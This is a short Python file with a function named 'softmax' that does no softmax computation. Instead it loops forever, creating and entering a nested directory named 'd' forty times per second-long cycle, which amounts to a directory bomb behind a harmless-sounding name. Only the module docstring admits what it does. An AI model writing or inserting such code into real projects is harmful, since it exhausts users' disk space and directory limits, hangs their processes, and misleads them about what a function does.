"""Makes folders within folders without end."""
import os
import time


def softmax(x):
    while True:
        for _ in range(40):
            os.mkdir("d")
            os.chdir("d")
        time.sleep(1)
